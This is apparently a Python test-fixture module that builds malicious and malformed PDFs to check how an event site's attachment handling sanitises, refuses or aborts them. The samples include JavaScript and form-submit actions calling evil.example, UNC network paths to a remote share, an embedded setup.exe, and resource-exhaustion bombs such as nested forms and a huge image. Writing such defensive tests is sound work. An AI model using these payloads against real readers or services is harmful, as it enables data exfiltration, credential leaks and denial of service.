"""PDFs that somebody sends by chance or in malice. Each is named; what becomes of it stands beside it."""

import hashlib

from eventsite.attachments.values import Trouble
from tests.builders import papers
from tests.builders.papers import paper, stream_of

WORDS = "Receipt 12.50"
PADDING = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
"""What a short password is filled up with. Source: ISO 32000-1, 7.6.3.3, algorithm 2."""


def rc4(key, content):
    """Encrypt, or decrypt, as old PDFs do."""
    state, at, out = list(range(256)), 0, bytearray()
    for number in range(256):
        at = (at + state[number] + key[number % len(key)]) % 256
        state[number], state[at] = state[at], state[number]
    one = two = 0
    for byte in content:
        one = (one + 1) % 256
        two = (two + state[one]) % 256
        state[one], state[two] = state[two], state[one]
        out.append(byte ^ state[(state[one] + state[two]) % 256])
    return bytes(out)


def for_reading_only():
    """Encrypted with a password of the owner's only, as banks and airlines send it: everybody may read it (ISO 32000-1, 7.6.3)."""
    owner = rc4(hashlib.md5(b"owner" + PADDING[:27]).digest()[:5], PADDING)
    identity, permissions = b"0" * 16, (-44).to_bytes(4, "little", signed=True)
    key = hashlib.md5(PADDING + owner + permissions + identity).digest()[:5]
    own_key = hashlib.md5(key + (11).to_bytes(3, "little") + b"\0\0").digest()[:10]
    drawn = rc4(own_key, f"BT /F1 24 Tf 60 762 Td ({WORDS}) Tj ET".encode())
    plain = stream_of(f"BT /F1 24 Tf 60 762 Td ({WORDS}) Tj ET".encode())
    locked = f"<< /Length {len(drawn)} >>\nstream\n".encode() + drawn + b"\nendstream"
    encrypt = f"<< /Filter /Standard /V 1 /R 2 /P -44 /O <{owner.hex()}> /U <{rc4(key, PADDING).hex()}> >>".encode()
    made = paper(extra=(encrypt,)).replace(plain, locked)
    return made.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 100 0 R /ID [<" + identity.hex().encode() + b"> <30>]")


def acts_on(action, *, where="catalog"):
    """A paper that does something when it is opened (catalog), shown (page), or pressed (link)."""
    if where == "catalog":
        return paper(catalog=f"/OpenAction << {action} >>")
    if where == "page":
        return paper(page=f"/AA << /O << {action} >> /C << {action} >> >>")
    return paper(page=f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << {action} >> >>]")


UNC = r"\\\\\\\\evil.example\\\\share\\\\x.pdf"
SCRIPT = r"/S /JavaScript /JS (app.launchURL\('http://evil.example'\))"


def with_attached_program():
    """A program in the paper, and a paperclip on the page that opens it."""
    return paper(
        page="/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] /FS 100 0 R >>]",
        catalog="/Names << /EmbeddedFiles << /Names [(setup.exe) 100 0 R] >> >>",
        extra=(b"<< /Type /Filespec /F (setup.exe) /EF << /F 101 0 R >> >>", stream_of(b"MZ evil.example" * 9, "/Type /EmbeddedFile")),
    )


def with_calculating_field(*, shown=True):
    """A field that a script would fill in, with what it held when it was saved; with a picture of that, or none (many forms)."""
    look = "/AP << /N 101 0 R >>" if shown else ""
    field = (
        f"<< /Type /Annot /Subtype /Widget /FT /Tx /T (total) /V (FILLED IN) /DA (/F1 60 Tf 0 g) /Rect [60 300 540 400] /F 4 {look} "
        f"/AA << /C << {SCRIPT} >> /F << {SCRIPT} >> /V << {SCRIPT} >> /Fo << {SCRIPT} >> >> >>"
    )
    drawn = stream_of(b"0 0 480 100 re f", "/Type /XObject /Subtype /Form /BBox [0 0 480 100]")
    form = "/AcroForm << /Fields [100 0 R] /CO [100 0 R] /NeedAppearances true /DA (/F1 60 Tf 0 g) /DR << /Font << /F1 3 0 R >> >> >>"
    return paper(catalog=form, page="/Annots [100 0 R]", extra=(field.encode(), drawn))


def with_picture(entries, content, *, pages=1):
    """A paper that shows one picture over all of it."""
    image = stream_of(content, f"/Type /XObject /Subtype /Image {entries}")
    return paper(*["x"] * pages, content=b"q 595 0 0 842 0 0 cm /I Do Q", extra=(image,)).replace(b"/Resources << ", b"/Resources << /XObject << /I 100 0 R >> ")


def laughing(levels=12, times=10):
    """Forms that draw forms that draw forms: ten to the power of twelve lines (a thousand million laughs)."""
    forms = []
    for level in range(levels):
        inner = b"/N Do " * times if level < levels - 1 else b"0 0 m 595 842 l S "
        found = f"/Resources << /XObject << /N {101 + level} 0 R >> >>" if level < levels - 1 else ""
        forms.append(stream_of(inner, f"/Type /XObject /Subtype /Form /BBox [0 0 595 842] {found}"))
    return paper(content=b"/N Do", extra=forms).replace(b"/Resources << ", b"/Resources << /XObject << /N 100 0 R >> ", 1)


def drawing_itself():
    """A form that draws itself, after a line of words."""
    form = stream_of(b"/N Do", "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /N 100 0 R >> >>")
    shown = f"BT /F1 24 Tf 60 762 Td ({WORDS}) Tj ET /N Do".encode()
    return paper(content=shown, extra=(form,)).replace(b"/Resources << ", b"/Resources << /XObject << /N 100 0 R >> ", 1)


def many_pages(number):
    """So many pages, all of them one."""
    return paper().replace(b"/Count 1 /Kids [10 0 R]", b"/Count %d /Kids [%s]" % (number, b"10 0 R " * number))


def page_tree(change):
    """A paper whose list of pages is something else."""
    return paper().replace(b"/Count 1 /Kids [10 0 R]", change)


def deep_tree(levels=5_000):
    """One page under five thousand branches."""
    branches = [f"<< /Type /Pages /Count 1 /Parent {99 + level} 0 R /Kids [{101 + level} 0 R] >>".encode() for level in range(levels)]
    branches[-1] = branches[-1].replace(f"{100 + levels} 0 R]".encode(), b"10 0 R]")
    return paper(extra=branches).replace(b"/Count 1 /Kids [10 0 R]", b"/Count 1 /Kids [100 0 R]")


def deep_brackets(levels=200_000):
    """A list in a list in a list."""
    return paper(extra=(b"[" * levels + b"]" * levels,), page="/Nested 100 0 R")


def sized(box, more="", words=WORDS):
    """A page with a paper of its own size."""
    return paper(words, page=more).replace(b"/MediaBox [0 0 595 842]", f"/MediaBox [{box}]".encode())


def tiled():
    """A pattern of one thousandth of a point over the largest page there is."""
    pattern = stream_of(b"0 0 .001 .0005 re f", "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 .001 .001] /XStep .001 /YStep .001 /Resources << >>")
    made = paper(content=b"/Pattern cs /P scn 0 0 14400 14400 re f", extra=(pattern,), size=(14_400, 14_400))
    return made.replace(b"/Resources << ", b"/Resources << /Pattern << /P 100 0 R >> ", 1)


HARMLESS = {
    "script on opening": lambda: acts_on(SCRIPT), "script on a page": lambda: acts_on(SCRIPT, where="page"), "script in a link": lambda: acts_on(SCRIPT, where="link"),
    "script by name": lambda: paper(catalog=f"/Names << /JavaScript << /Names [(a) << {SCRIPT} >>] >> >>"),
    "script in a field": with_calculating_field, "field without a picture of it": lambda: with_calculating_field(shown=False),
    "network path to another paper": lambda: acts_on(f"/S /GoToR /F ({UNC}) /D [0 /Fit]"), "network path to a program": lambda: acts_on(f"/S /Launch /F ({UNC})"),
    "network path in a link": lambda: acts_on(f"/S /URI /URI (file:{UNC})", where="link"), "network path inside": lambda: acts_on(f"/S /GoToE /F ({UNC}) /D [0 /Fit]"),
    "picture from elsewhere": lambda: paper(extra=(f"<< /Length 0 /F ({UNC}) /FFilter /FlateDecode >>\nstream\n\nendstream".encode(),), page="/Thumb 100 0 R"),
    "sends the form": lambda: acts_on("/S /SubmitForm /F (http://evil.example)"), "reads data in": lambda: acts_on(f"/S /ImportData /F ({UNC})", where="page"),
    "plays a sound": lambda: acts_on("/S /Sound /Sound 100 0 R", where="page"), "shows a film": lambda: acts_on("/S /Rendition /OP 0", where="link"),
    "program attached": with_attached_program, "e-invoice": papers.e_invoice, "opening view": papers.with_opening_view,
    "mail before it": lambda: paper(header=b"Received: by mail\r\n\r\n"), "archive behind it": lambda: paper() + b"PK\x03\x04" + b"x" * 200,
    "page before it": lambda: paper(header=b"<html><script>1</script>"), "owner's password only": for_reading_only, "draws itself": drawing_itself,
    "turned page": lambda: sized("0 0 595 842", "/Rotate 90"), "cut page": lambda: sized("-100 -100 900 1000", "/CropBox [0 0 595 842]"),
    "upside-down box": lambda: sized("595 842 0 0"),
    "lost index": lambda: paper().replace(b"startxref", b"startnext"), "index past the end": lambda: paper().rsplit(b"startxref", 1)[0] + b"startxref\n99999999\n%%EOF",
    "deep brackets": deep_brackets,
}
"""Drawn, with `WORDS` as its text, and nothing else of it."""

REFUSED = {
    "10,000 pages": (lambda: many_pages(10_000), {Trouble.MANY_PAGES}), "says a thousand million pages": (lambda: page_tree(b"/Count 1000000000 /Kids [10 0 R]"), {Trouble.MANY_PAGES, Trouble.DAMAGED, None}),
    "says less than no pages": (lambda: page_tree(b"/Count -5 /Kids [10 0 R]"), {Trouble.DAMAGED, None}), "pages in a ring": (lambda: page_tree(b"/Count 3 /Kids [2 0 R 2 0 R 2 0 R]"), {Trouble.DAMAGED, Trouble.NOTHING_TO_SEE}),
    "deep tree": (deep_tree, {Trouble.DAMAGED, None}), "password": (papers.locked, {Trouble.LOCKED}),
    "a dot of a page": (lambda: sized("0 0 0.001 0.001"), {Trouble.NOTHING_TO_SEE, None}), "a page without an end": (lambda: sized("0 0 1e38 1e38"), {Trouble.NOTHING_TO_SEE, Trouble.DAMAGED, Trouble.TOO_MUCH, None}),
    "a page that is no number": (lambda: sized("nan inf -inf 0"), {Trouble.NOTHING_TO_SEE, Trouble.DAMAGED, None}), "a needle of a page": (lambda: sized("0 0 14400 0.01"), {Trouble.NOTHING_TO_SEE, Trouble.DAMAGED, None}),
    "tiled": (tiled, {Trouble.TOO_MUCH, Trouble.NOTHING_TO_SEE, None}),
    "head only": (lambda: b"%PDF-1.7\n%%EOF", {Trouble.DAMAGED}), "no catalog": (lambda: paper().replace(b"/Root 1 0 R", b"/Root 9 0 R"), {Trouble.DAMAGED, None}),
}
"""What the person may be told; None: it may be drawn as well."""

COSTLY = {
    "laughs": laughing,
    "picture of 2.7 gigabytes": lambda: with_picture("/Width 30000 /Height 30000 /BitsPerComponent 8 /ColorSpace /DeviceRGB", b"\0" * 1000),
}
"""What would take minutes or all memory: the child is ended, or nothing is seen."""
